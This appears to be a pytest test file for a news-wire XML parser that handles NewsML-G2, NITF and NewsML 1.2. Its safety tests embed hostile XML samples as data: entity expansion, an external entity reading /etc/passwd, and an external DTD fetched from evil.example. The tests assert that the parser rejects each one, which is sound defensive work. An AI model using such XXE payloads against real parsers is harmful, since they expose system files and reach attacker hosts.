"""NewsML-G2, NITF and NewsML 1.2 → RawStory; safe XML handling.

What the golden samples parse to is checked whole in ``test_formats_golden.py``."""

from __future__ import annotations

import pytest

from agents.formats import parse_payload
from agents.formats._common import iso_datetime
from agents.formats._xml import MAX_DEPTH, decode_xml
from tests.unit.formats.parsing import error

# --------------------------------------------------------------------------- NewsML-G2


def test_g2_text_item_without_body_is_empty_body() -> None:
    payload = b"""<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g1" version="1">
      <itemMeta><itemClass qcode="ninat:text"/></itemMeta>
      <contentSet><inlineXML contenttype="application/xhtml+xml"><html><body><p> </p></body></html></inlineXML>
      </contentSet></newsItem>"""
    err = error(payload)
    assert err.error_type == "EmptyBody"
    assert "'g1'" in err.message


def test_g2_missing_guid() -> None:
    payload = b"""<newsItem><itemMeta><itemClass qcode="ninat:text"/></itemMeta>
      <contentSet><inlineData contenttype="text/plain">text</inlineData></contentSet></newsItem>"""
    assert error(payload).error_type == "MissingUri"


def test_g2_inline_data_with_markup_is_html() -> None:
    payload = b"""<newsItem guid="g"><contentSet><inlineData contenttype="text/plain">&lt;p&gt;Hi&lt;/p&gt;</inlineData>
      </contentSet></newsItem>"""
    (story,) = parse_payload(payload)
    assert (story.body, story.body_type) == ("<p>Hi</p>", "text/html")


@pytest.mark.parametrize(("root", "item_type"), [("packageItem", "composite"), ("planningItem", "planning")])
def test_g2_packages_and_planning_items_are_metadata_only(root: str, item_type: str) -> None:
    (story,) = parse_payload(f"<{root} guid='x' version='2'/>".encode())
    assert (story.uri, story.version, story.item_type, story.body) == ("x", "2", item_type, None)


def test_g2_event_concept_item_is_an_event_and_other_concepts_are_not_news() -> None:
    event = b"<conceptItem guid='e'><concept><type qcode='cpnat:event'/><name>Summit</name></concept></conceptItem>"
    (story,) = parse_payload(event)
    assert (story.uri, story.item_type, story.headline, story.body) == ("e", "event", "Summit", None)
    for payload in (
        b"<conceptItem guid='p'><concept><type qcode='cpnat:person'/><name>Ann</name></concept></conceptItem>",
        b"<knowledgeItem guid='k'/>",
        b"<catalogItem guid='c'/>",
    ):
        err = error(payload)
        assert err.error_type == "NotNewsItem" and "none of them news" in err.message


# --------------------------------------------------------------------------- NITF


def test_nitf_without_doc_id_gets_stable_content_uri() -> None:
    payload = (
        b"<nitf><body><body.head><hedline><hl1>H</hl1></hedline></body.head>"
        b"<body.content><p>B</p></body.content></body></nitf>"
    )
    (a,) = parse_payload(payload)
    (b,) = parse_payload(payload.replace(b"<nitf>", b"<nitf >"))
    assert a.uri.startswith("urn:wirestream:nitf:sha256:")
    assert a.uri == b.uri
    (c,) = parse_payload(payload.replace(b"<p>B</p>", b"<p>C</p>"))
    assert c.uri != a.uri


def test_nitf_embargoed_is_withheld_and_bad_urgency_rejected() -> None:
    base = b"<nitf><head><docdata management-status='embargoed'><doc-id id-string='n'/>%s</docdata></head>"
    tail = b"<body><body.content><p>x</p></body.content></body></nitf>"
    (story,) = parse_payload(base % b"" + tail)
    assert story.pubstatus == "withheld"
    assert error(base % b"<urgency ed-urg='12'/>" + tail).error_type == "InvalidFieldValue"


def test_nitf_without_body_content() -> None:
    assert error(b"<nitf><head><docdata><doc-id id-string='n'/></docdata></head></nitf>").error_type == "EmptyBody"


# --------------------------------------------------------------------------- NewsML 1.2


def newsml1_item(component: str, identifier: bool = True) -> bytes:
    ident = (
        b"<Identification><NewsIdentifier><ProviderId>p</ProviderId><DateId>d</DateId>"
        b"<NewsItemId>i</NewsItemId><RevisionId>1</RevisionId></NewsIdentifier></Identification>"
    )
    return b"<NewsML><NewsItem>" + (ident if identifier else b"") + component.encode() + b"</NewsItem></NewsML>"


def test_newsml1_photo_item_is_a_metadata_only_picture() -> None:
    photo = '<NewsComponent><ContentItem Href="x.jpg"><MediaType FormalName="Photo"/></ContentItem></NewsComponent>'
    (story,) = parse_payload(newsml1_item(photo))
    assert (story.uri, story.version, story.item_type, story.body) == ("urn:newsml:p:d:i", "1", "picture", None)
    assert error(newsml1_item(photo, identifier=False)).error_type == "MissingUri"
    # A caption is not the text of a text item: the photo stays a picture.
    captioned = photo.replace(
        "</NewsComponent>",
        '<NewsComponent><Role FormalName="Caption"/><ContentItem><MediaType FormalName="Text"/>'
        "<DataContent>A caption</DataContent></ContentItem></NewsComponent></NewsComponent>",
    )
    assert parse_payload(newsml1_item(captioned))[0].item_type == "picture"


def test_newsml1_text_item_without_its_text_is_empty_body() -> None:
    by_reference = (
        '<NewsComponent><ContentItem Href="story.xml"><MediaType FormalName="Text"/></ContentItem></NewsComponent>'
    )
    assert error(newsml1_item(by_reference)).error_type == "EmptyBody"


# --------------------------------------------------------------------------- safety and encodings


@pytest.mark.parametrize(
    ("payload", "error_type"),
    [
        (
            b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><nitf><p>&b;</p></nitf>',
            "UnsafeXml",
        ),
        (
            b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf>&x;</nitf>',
            "UnsafeXml",
        ),
        (
            b'<?xml version="1.0"?><!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><nitf/>',
            "UnsafeXml",
        ),
        (b"<nitf>" + b"<a>" * (MAX_DEPTH + 5) + b"</a>" * (MAX_DEPTH + 5) + b"</nitf>", "XmlTooDeep"),
        (b"<nitf><body>", "InvalidXml"),
        (b"<nitf>&undefinedthing;</nitf>", "InvalidXml"),
        (b'<?xml version="1.0" encoding="x-nonsense"?><nitf/>', "UnknownEncoding"),
        (b'<?xml version="1.0" encoding="utf-8"?><nitf>caf\xe9</nitf>', "InvalidUtf8"),
        (b"<rss><channel/></rss>", "UnknownFormat"),
        (b"<nitf>" + b" " * (9 * 1024 * 1024) + b"</nitf>", "PayloadTooLarge"),
    ],
)
def test_unsafe_or_broken_xml(payload: bytes, error_type: str) -> None:
    err = error(payload)
    assert err.error_type == error_type
    assert len(err.message) < 300


def test_unsafe_xml_refused_even_with_content_type() -> None:
    payload = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "a">]><newsItem guid="g"/>'
    assert error(payload, "application/vnd.iptc.g2.newsitem+xml").error_type == "UnsafeXml"


def test_decode_rules() -> None:
    assert decode_xml(b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\x93x\x94</a>', "t").endswith(
        "<a>\u201cx\u201d</a>"
    )
    # A Latin-1 declaration over UTF-8 bytes: the bytes win.
    assert decode_xml('<?xml version="1.0" encoding="iso-8859-1"?><a>é</a>'.encode(), "t").endswith("<a>é</a>")
    # Undeclared and not UTF-8: Windows-1252.
    assert decode_xml(b"<a>caf\xe9</a>", "t") == "<a>café</a>"
    assert decode_xml("<a>ü</a>".encode("utf-16"), "t") == "<a>ü</a>"
    assert decode_xml(b"\xef\xbb\xbf<a>\xc3\xbc</a>", "t") == "<a>ü</a>"


def test_html_entities_without_dtd() -> None:
    payload = (
        b"<nitf><head><docdata><doc-id id-string='e'/></docdata></head>"
        b"<body><body.content><p>a&nbsp;b&mdash;c &amp; d</p></body.content></body></nitf>"
    )
    (story,) = parse_payload(payload)
    assert story.body == "<p>a\u00a0b\u2014c &amp; d</p>"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("20140829T134951+0000", "2014-08-29T13:49:51+00:00"),
        ("20151210T191044Z", "2015-12-10T19:10:44Z"),
        ("20131020", "2013-10-20"),
        ("2024-03-04T09:30:00Z", "2024-03-04T09:30:00Z"),
        ("2017-08-24T04:38:34+0000", "2017-08-24T04:38:34+00:00"),
        ("2016-01-12 12:35:40", "2016-01-12 12:35:40"),
        ("not a date", "not a date"),
        (" ", None),
        (None, None),
    ],
)
def test_iso_datetime(value: str | None, expected: str | None) -> None:
    assert iso_datetime(value) == expected
